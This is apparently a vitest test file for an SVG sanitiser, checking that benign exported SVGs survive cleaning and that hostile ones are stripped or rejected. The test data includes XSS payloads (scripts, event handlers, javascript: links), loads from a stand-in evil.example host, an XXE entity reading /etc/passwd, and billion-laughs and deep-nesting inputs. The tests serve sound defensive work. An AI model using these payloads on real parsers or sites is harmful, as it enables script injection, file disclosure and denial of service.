import { describe, expect, it } from 'vitest';
import { cleanSvg } from './clean-svg.ts';

const path = '<path d="M0 0h10v10z"/>';
const wrap = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 50"${attributes}>${inner}</svg>`;
const clean = (inner: string, attributes = '') => cleanSvg(wrap(inner, attributes)).svg;
/** What is inside the root. */
const cleanInner = (inner: string) => clean(inner).replace(/^<svg[^>]*>|<\/svg>$/g, '');

describe('an SVG as programs export it', () => {
  it('keeps shapes, gradients, styles and references inside the file', () => {
    const logo = [
      '<title>Riverside</title><defs><style>.a,.b{fill:#22352c;stroke-width:2px}</style>',
      '<linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient><g id="leaf"><path d="M1 2 3 4z"/></g></defs>',
      '<g class="a" transform="rotate(45)"><circle cx="5" cy="5" r="4" style="fill:url(#g)"/><use href="#leaf"/></g>',
      '<text x="1" y="2" font-family="Georgia">R &amp; B</text>',
    ].join('');
    expect(cleanInner(logo).replace(/<(\w+)([^>]*)><\/\1>/g, '<$1$2/>')).toBe(logo);
  });

  it('gets a size of its own, whatever the size in the file', () => {
    expect(cleanSvg(wrap(path))).toMatchObject({ width: 512, height: 256 });
    const plain = cleanSvg(`<svg xmlns="http://www.w3.org/2000/svg" width="30px" height="60">${path}</svg>`);
    expect(plain).toMatchObject({ width: 256, height: 512 });
    expect(plain.svg).toContain('width="256" height="512" viewBox="0 0 30 60"');
  });

  it('stays as it is when it is cleaned again', () => {
    const once = clean(`<a href="https://example.com"><g style="fill: red ; stroke:blue">${path}</g></a>`);
    expect(cleanSvg(once).svg).toBe(once);
  });

  it('loses what editors add: their namespaces, comments, doctypes and processing instructions', () => {
    const source = `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><?xml-stylesheet href="https://evil.example/a.css"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:i="http://www.inkscape.org" viewBox="0 0 1 1"><!-- made by --><i:grid i:x="1">${path}</i:grid><g i:label="x">${path}</g></svg>`;
    expect(cleanSvg(source).svg).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1" width="512" height="512"><g><path d="M0 0h10v10z"></path></g></svg>',
    );
  });
});

describe('entities in the doctype', () => {
  const withEntities = (declarations: string, inner: string, namespace = 'http://www.w3.org/2000/svg') =>
    `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd" [${declarations}]><svg xmlns="${namespace}" viewBox="0 0 100 50">${path}${inner}</svg>`;

  it('name namespaces, as Illustrator exports them', () => {
    const names = `<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/"> <!ENTITY ns_svg "http://www.w3.org/2000/svg">`;
    const { svg } = cleanSvg(withEntities(names, '<g xmlns:x="&ns_extend;"/>', '&ns_svg;'));
    expect(svg).toContain('<path d="M0 0h10v10z"></path><g></g>');
  });

  it.each([
    ['that name others', '<!ENTITY a "ha"><!ENTITY b "&a;&a;">', '<text>&b;</text>'],
    ['that read files', '<!ENTITY a SYSTEM "file:///etc/passwd">', '<text>&a;</text>'],
    ['that are long', `<!ENTITY a "${'a'.repeat(201)}">`, '<text>&a;</text>'],
    ['that are named without end', '<!ENTITY a "ha">', `<text>${'&a;'.repeat(1001)}</text>`],
  ])('%s are rejected', (_what, declarations, inner) => {
    expect(() => cleanSvg(withEntities(declarations, inner))).toThrow(/^This SVG is (damaged|too complex)/);
  });

  it('are text, and no markup or reference', () => {
    const { svg } = cleanSvg(withEntities(`<!ENTITY a 'javascript:x'>`, '<g fill="&a;"/><use href="&a;"/>'));
    expect(svg).toContain('<g></g><use></use>');
  });
});

describe('a hostile SVG', () => {
  const drawn = '<path d="M0 0h10v10z"></path>';
  // What is left beside the shape.
  it.each([
    ['a script', '<script>alert(1)</script>', ''],
    ['a script in CDATA', '<script><![CDATA[alert(1)]]></script>', ''],
    ['a script from elsewhere', '<script href="https://evil.example/a.js"/>', ''],
    ['a script of the HTML namespace', '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>', ''],
    ['an event handler', '<g onclick="alert(1)" onload="alert(2)"/>', '<g></g>'],
    ['an event handler in capitals', '<g ONLOAD="alert(1)"/>', '<g></g>'],
    [
      'foreign content',
      '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="//x"/></body></foreignObject>',
      '',
    ],
    ['a frame', '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>', ''],
    ['a picture from elsewhere', '<image href="https://evil.example/a.png"/>', ''],
    ['a picture inside', '<image xlink:href="data:image/svg+xml;base64,PHN2Zz4="/>', ''],
    ['a reference to another file', '<use href="https://evil.example/a.svg#x"/>', '<use></use>'],
    ['a reference to data', '<use xlink:href="data:image/svg+xml,#x"/>', '<use></use>'],
    ['a link with a script', '<a xlink:href="javascript:alert(1)"><g/></a>', '<g><g></g></g>'],
    ['an animation that sets a link', '<animate attributeName="href" to="javascript:alert(1)"/>', ''],
    ['a set that adds a handler', '<set attributeName="onclick" to="alert(1)"/>', ''],
    ['a filter that loads', '<filter id="f"><feImage href="https://evil.example/a"/></filter>', ''],
    ['a handler element', '<handler type="text/javascript">alert(1)</handler>', ''],
    [
      'a style import',
      '<style>@import url(https://evil.example/a.css);g{fill:red}</style>',
      '<style>g{fill:red}</style>',
    ],
    ['a style import after a comment', '<style>/**/@import/**/"//evil.example";</style>', '<style></style>'],
    ['a font from elsewhere', '<style>@font-face{font-family:a;src:url(//evil.example/a)}</style>', '<style></style>'],
    [
      'a style that loads',
      '<style>g{fill:url(https://evil.example/a#b);stroke:red}</style>',
      '<style>g{stroke:red}</style>',
    ],
    ['a style with escapes', '<style>g{fill:u\\72l(//evil.example)}</style>', '<style></style>'],
    ['a style that ends its element', '<style>&lt;/style&gt;&lt;script&gt;g{fill:red}</style>', '<style></style>'],
    [
      'a style attribute that loads',
      '<g style="fill:url(\'//evil.example#a\');mask:url( https://evil.example )"/>',
      '<g style=""></g>',
    ],
    ['an attribute that loads', '<g fill="url(//evil.example/a#b)" clip-path="url(data:x)"/>', '<g></g>'],
    ['an attribute with an image set', '<g fill="image-set(\'//evil.example\' 1x)" cursor="url(//x)"/>', '<g></g>'],
    ['a base for addresses', '<g xml:base="https://evil.example/"/>', '<g></g>'],
    [
      'text that looks like an element',
      '<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>',
      '<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>',
    ],
    ['an attribute that ends its quotes', '<g id="a&quot; onload=&quot;alert(1)"/>', '<g></g>'],
    ['a nested document', '<svg onload="alert(1)"><script>1</script></svg>', ''],
  ])('is cleaned of %s', (_what, hostile, left) => {
    expect(cleanInner(hostile + path)).toBe(left + drawn);
  });

  const doublings = Array.from(
    { length: 30 },
    (_, n) => `<g id="n${n + 1}"><use href="#n${n}"/><use href="#n${n}"/></g>`,
  );
  const masks = Array.from(
    { length: 30 },
    (_, n) => `<g id="m${n + 1}"><g mask="url(#m${n})"/><g style="mask:url(#m${n})"/></g>`,
  );
  it.each([
    ['only a script', wrap('<script>alert(1)</script>'), /shows nothing without/],
    ['only a picture', wrap('<image href="data:image/png;base64,AAAA"/>'), /shows nothing without/],
    ['only foreign content', wrap(`<foreignObject>${path}</foreignObject>`), /shows nothing without/],
    [
      'a billion laughs',
      `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>${wrap(`<text>&b;</text>`)}`,
      /damaged/,
    ],
    [
      'an entity of a file',
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${wrap(`<text>&x;</text>`)}`,
      /damaged/,
    ],
    ['parts that double thirty times', wrap(`<g id="n0">${path}</g>${doublings.join('')}`), /repeats its parts/],
    ['masks that double thirty times', wrap(`<g id="m0">${path}</g>${masks.join('')}`), /repeats its parts/],
    ['a part that holds itself', wrap(`<g id="a">${path}<use href="#a"/></g>`), /repeats its parts/],
    ['ten thousand elements', wrap(path.repeat(10_000)), /too complex/],
    ['a thousand levels', wrap('<g>'.repeat(1000) + path + '</g>'.repeat(1000)), /too complex/],
    ['a thousand levels of nonsense', wrap('<x>'.repeat(1000) + path + '</x>'.repeat(1000)), /too complex/],
    ['an end that is missing', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0"/>', /damaged/],
    ['no size', `<svg xmlns="http://www.w3.org/2000/svg">${path}</svg>`, /no usable size/],
    ['a size without end', wrap(path).replace('0 0 100 50', '0 0 1e999 1'), /no usable size/],
    ['a size that is a line', wrap(path).replace('0 0 100 50', '0 0 9000 1'), /no usable size/],
    ['another root', `<html xmlns="http://www.w3.org/1999/xhtml"><svg>${path}</svg></html>`, /not an SVG/],
    ['no XML at all', 'GIF89a', /damaged|not an SVG/],
    ['nothing', '', /not an SVG|damaged/],
  ])('is refused with %s', (_what, source, message) => {
    expect(() => cleanSvg(source)).toThrow(message);
  });

  // Code that looks at a character twice would need minutes, and the test would end before it.
  it.each([' ', '/*', 'a', '@', ';', '{', '}', 'url(', ':'])('is judged at once, however often it says %j', (piece) => {
    const text = piece.repeat(140_000 / piece.length);
    for (const hostile of [`<style>${text}</style>`, `<g style="fill:red${text}" fill="${text}" href="#${text}"/>`])
      expect(clean(hostile + path)).toContain(drawn);
  });
});
